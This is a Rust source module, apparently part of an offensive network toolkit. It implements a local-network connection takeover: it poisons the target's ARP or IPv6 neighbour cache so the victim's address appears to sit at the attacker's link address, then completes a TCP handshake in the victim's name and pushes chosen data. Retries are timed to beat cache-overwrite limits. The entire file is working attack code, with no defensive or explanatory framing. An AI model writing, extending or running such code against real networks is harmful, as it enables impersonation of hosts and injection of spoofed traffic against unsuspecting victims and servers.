//! Takes a connection over in somebody else's name: has the other end believe that the victim's address is here, then shakes
//! hands as the victim and sends data with the last step of it.

use std::{
    io,
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use super::{ACK, Ends, Mac, PUSH, SYN, Segment, Wire, arp, neighbour, parse, tcp};

/// How long an answer to a SYN may take: it is a few microseconds, once the neighbour's entry is ours.
const ANSWER: Duration = Duration::from_millis(500);

/// How often is tried: a neighbour's entry is not overwritten within a second of the last change.
const TRIES: u32 = 6;

/// What is to be taken over.
#[derive(Clone, Copy, Debug)]
pub struct Plan<'d> {
    /// The victim's address and port.
    pub victim: SocketAddr,
    /// The other end.
    pub target: SocketAddr,
    /// The other end's link address.
    pub target_mac: Mac,
    /// The number that the SYN shall have.
    pub sequence: u32,
    /// What is sent.
    pub data: &'d [u8],
}

/// What became of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Taken {
    /// The target answered the SYN: hands were shaken, and the data was sent. The number it expects next, and its own.
    Established(u32, u32),
    /// No answer came here.
    Unanswered,
}

/// Tells the target that the victim's address is here.
pub fn poison(wire: &Wire, plan: &Plan<'_>) -> io::Result<()> {
    wire.send(&claim(wire.mac, plan))
}

/// What tells it: a question, as that makes an entry where there is none.
pub fn claim(mac: Mac, plan: &Plan<'_>) -> Vec<u8> {
    match (plan.victim.ip(), plan.target.ip()) {
        (IpAddr::V4(victim), IpAddr::V4(target)) => arp(1, (mac, victim), (plan.target_mac, target)),
        (_, IpAddr::V4(_)) => Vec::new(),
        (_, IpAddr::V6(target)) => neighbour(&ends(mac, plan), 135, target, Some(mac)),
    }
}

/// Takes a connection over.
pub fn hijack(wire: &Wire, plan: &Plan<'_>) -> io::Result<Taken> {
    let ends = ends(wire.mac, plan);
    for _ in 0..TRIES {
        poison(wire, plan)?;
        wire.send(&tcp(&ends, &Segment { flags: SYN, sequence: plan.sequence, ..Segment::default() }))?;
        let answer = wire.hear(ANSWER, |frame| {
            let (of, segment) = parse(frame)?;
            let is_it = of.from == ends.to && of.to == ends.from && segment.flags & (SYN | ACK) == SYN | ACK;
            is_it.then_some(segment.sequence)
        })?;
        if let Some(theirs) = answer {
            let (sequence, acknowledges) = (plan.sequence.wrapping_add(1), theirs.wrapping_add(1));
            wire.send(&tcp(&ends, &Segment { flags: ACK | PUSH, sequence, acknowledges, data: plan.data }))?;
            let sent = u32::try_from(plan.data.len()).unwrap_or_default();
            return Ok(Taken::Established(sequence.wrapping_add(sent), acknowledges));
        }
    }
    Ok(Taken::Unanswered)
}

fn ends(mac: Mac, plan: &Plan<'_>) -> Ends {
    Ends { macs: (mac, plan.target_mac), from: plan.victim, to: plan.target }
}
